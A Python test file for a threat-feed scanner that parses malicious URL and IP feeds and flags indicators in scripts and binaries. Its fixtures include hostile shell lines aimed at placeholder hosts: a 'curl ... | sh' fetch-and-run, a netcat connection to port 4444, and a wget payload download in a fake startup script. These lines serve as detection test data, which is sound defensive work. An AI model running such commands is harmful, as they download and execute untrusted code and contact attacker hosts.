"""Malicious URLs and IPs: feed formats, lookups, extraction from text and binaries, the stored feed file."""

from __future__ import annotations

import os
from importlib.metadata import version
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.cli.feeds import run_feeds_update
from services.engine.analyze import analyze
from services.engine.content.netioc.analyzer import NetIocAnalyzer
from services.engine.content.netioc.feeds import FeedIndex, load_feed, normalize_url
from services.engine.content.netioc.prefilter import IndicatorPrefilter
from services.engine.content.netioc.settings import FeedsSettings
from services.engine.content.netioc.store import load_index, read_store, update_feeds
from services.settings import Settings
from tests.engine.memimage import Entry, Layer, MemoryImage

TESTDATA = Path(__file__).parent / "testdata"


def _feed(name: str):  # type: ignore[no-untyped-def]
    return load_feed(name, (TESTDATA / name).read_bytes())


def test_three_feed_formats() -> None:
    csv = _feed("urlhaus.csv")
    assert csv.urls == ["http://malware.assay-fixture.invalid/payload", "https://198.51.100.23/bins/x86"]
    assert csv.problems == []
    drop = _feed("drop.txt")
    assert drop.networks == ["203.0.113.0/24", "2001:db8:dead::/48"]
    lines = _feed("domains.txt")
    assert lines.domains == ["evil.assay-fixture.invalid"]
    assert lines.urls == ["http://phish.example.invalid/login"]
    assert lines.networks == ["192.0.2.66/32"]
    assert lines.problems == [
        "domains.txt: line 5: not a URL, domain, IP address or CIDR: 'not a valid entry here'"
    ]


def test_index_lookups() -> None:
    index = FeedIndex([_feed("urlhaus.csv"), _feed("drop.txt"), _feed("domains.txt")])
    assert index.url("HTTP://Malware.assay-fixture.invalid/payload/") == "urlhaus.csv"
    assert index.domain("cdn.evil.assay-fixture.invalid") == "domains.txt"
    assert index.domain("assay-fixture.invalid") is None
    assert index.address("203.0.113.66") == "drop.txt"
    assert index.address("2001:db8:dead:1::5") == "drop.txt"
    assert index.address("192.0.2.66") == "domains.txt"
    assert index.address("192.0.2.67") is None
    assert index.address("8.8.8.8") is None


def test_extraction_from_text_and_binaries() -> None:
    analyzer = NetIocAnalyzer(FeedIndex([_feed("urlhaus.csv"), _feed("drop.txt"), _feed("domains.txt")]))
    script = (
        b"#!/bin/sh\ncurl -s http://malware.assay-fixture.invalid/payload | sh\n"
        b"nc 203.0.113.66 4444\nping evil.assay-fixture.invalid\nversion=1.2.3.4567\n"
    )
    found = {(d.category, d.evidence, d.source) for d in analyzer.scan_bytes(script)}
    assert found == {
        ("MaliciousURL", "http://malware.assay-fixture.invalid/payload", "urlhaus.csv"),
        ("MaliciousIP", "203.0.113.66", "drop.txt"),
        ("MaliciousURL", "evil.assay-fixture.invalid", "domains.txt"),
    }
    binary = b"\x7fELF\0\0\0" + b"\0" * 64 + b"https://198.51.100.23/bins/x86\0 203.0.113.9 \0"
    found_bin = {(d.category, d.evidence) for d in analyzer.scan_bytes(binary)}
    assert found_bin == {("MaliciousURL", "https://198.51.100.23/bins/x86")}  # bare addresses: text only
    assert analyzer.scan_bytes(b"see https://example.org and 10.0.0.1") == []


async def test_stored_feeds_drive_a_walk_and_no_feeds_asks_for_no_files(tmp_path: Path) -> None:
    store = tmp_path / "feeds.json"
    feeds = await update_feeds([str(TESTDATA / "urlhaus.csv"), str(TESTDATA / "drop.txt")], store)
    assert [f.name for f in feeds] == ["urlhaus.csv", "drop.txt"]
    index = load_index(store)
    image = MemoryImage(
        [Layer([Entry("opt/app/start.sh", b"wget http://malware.assay-fixture.invalid/payload\n")])]
    )
    analysis = await analyze(image, (), (NetIocAnalyzer(index),))
    assert [(d.path, d.category) for d in analysis.detections] == [("/opt/app/start.sh", "MaliciousURL")]
    assert NetIocAnalyzer(load_index(tmp_path / "absent.json")).requests == ()


def test_urls_whose_port_is_not_a_number_do_not_raise() -> None:
    # real Debian files hold templates such as http://host:port/ (urlsplit's .port raises on them)
    analyzer = NetIocAnalyzer(FeedIndex([_feed("urlhaus.csv"), _feed("domains.txt")]))
    text = b"proxy=http://proxy:port/\nsee http://evil.assay-fixture.invalid:PORT/x and http://[::1]:p/\n"
    found = {(d.category, d.evidence) for d in analyzer.scan_bytes(text)}
    assert found == {("MaliciousURL", "http://evil.assay-fixture.invalid:PORT/x")}
    assert normalize_url("HTTP://Proxy:Port/a/") == "http://proxy:Port/a"
    assert normalize_url("http://h:0080/a") == "http://h:80/a"


def _all_feeds() -> FeedIndex:
    return FeedIndex([_feed("urlhaus.csv"), _feed("drop.txt"), _feed("domains.txt")])


def test_the_prefilter_passes_what_the_exact_scan_finds_and_little_else() -> None:
    feeds = _all_feeds()
    accept = IndicatorPrefilter(feeds)
    exact = NetIocAnalyzer(feeds)
    listed = [
        b"curl http://malware.assay-fixture.invalid/payload",
        b"host=CDN.Evil.Assay-Fixture.Invalid\n",
        b"nc 203.0.113.66 4444",
        b"route 2001:db8:dead:1::5 via",
        b"\x7fELF\x00\x00 https://198.51.100.23/bins/x86\x00",
        b"login at http://phish.example.invalid/login now",
        b"allow 192.0.2.66;",
    ]
    for data in listed:
        assert exact.scan_bytes(data), data
        assert accept("f", data), data
    clean = [
        b"see https://example.org and 10.0.0.1, version=1.2.3.4567",
        b"std::string a; Foo::Bar::baz(); 12:30:45",
        b"notevil.assay-fixture.invalid and evil_assay-fixture.invalid",
        b"\x1f\x8b\x08 evil.assay-fixture.invalid",  # gzip data: not text, never scanned
    ]
    for data in clean:
        assert not accept("f", data), data


_PIECES = [
    "evil.assay-fixture.invalid", "malware.assay-fixture.invalid", "203.0.113.7", "198.51.100.23",
    "2001:db8:dead::9", "192.0.2.66", "http://", "https://", "/payload", "/bins/x86", ":8080", ".", "-",
    "_", "@", "[", "]", " ", "\n", "\x00", "a", "x.", "1.2.3.", "::", "sub.",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=12))
def test_the_prefilter_never_drops_a_file_the_exact_scan_reports(pieces: list[str]) -> None:
    data = "".join(pieces).encode()
    if _EXACT.scan_bytes(data):
        assert _ACCEPT("f", data), data


_EXACT = NetIocAnalyzer(_all_feeds())
_ACCEPT = IndicatorPrefilter(_all_feeds())


async def test_feeds_update_merges_by_name_accepts_a_directory_and_notes_an_empty_store(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = Settings(feeds=FeedsSettings(path=str(tmp_path / "feeds.json")))
    assert await run_feeds_update(settings, [str(TESTDATA / "urlhaus.csv")]) == 0
    assert await run_feeds_update(settings, [str(TESTDATA / "drop.txt")]) == 0  # the first one stays
    assert [f.name for f in read_store(tmp_path / "feeds.json")] == ["urlhaus.csv", "drop.txt"]
    folder = tmp_path / "more"
    folder.mkdir()
    (folder / "drop.txt").write_text("198.18.0.0/15\n")  # a newer drop.txt replaces the stored one
    (folder / "extra.txt").write_text("bad.example.invalid\n")
    (folder / ".hidden").write_text("ignored.example.invalid\n")
    assert await run_feeds_update(settings, [str(folder)]) == 0
    stored = {f.name: f for f in read_store(tmp_path / "feeds.json")}
    assert sorted(stored) == ["drop.txt", "extra.txt", "urlhaus.csv"]
    assert stored["drop.txt"].networks == ["198.18.0.0/15"]
    index = load_index(tmp_path / "feeds.json")
    compiled = sorted(p.name for p in os.scandir(tmp_path) if p.name.startswith(".feeds.json."))
    assert compiled == [f".feeds.json.{index.digest}.hs{version('hyperscan')}"]  # compiled once, for scans
    assert IndicatorPrefilter(index)("etc/hosts", b"0.0.0.0 x.bad.example.invalid\n")
    assert "no threat feeds loaded" not in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "blank.txt").write_text("# nothing listed yet\n")
    assert (
        await run_feeds_update(Settings(feeds=FeedsSettings(path=str(tmp_path / "e.json"))), [str(empty)])
        == 0
    )
    assert "no threat feeds loaded" in capsys.readouterr().err
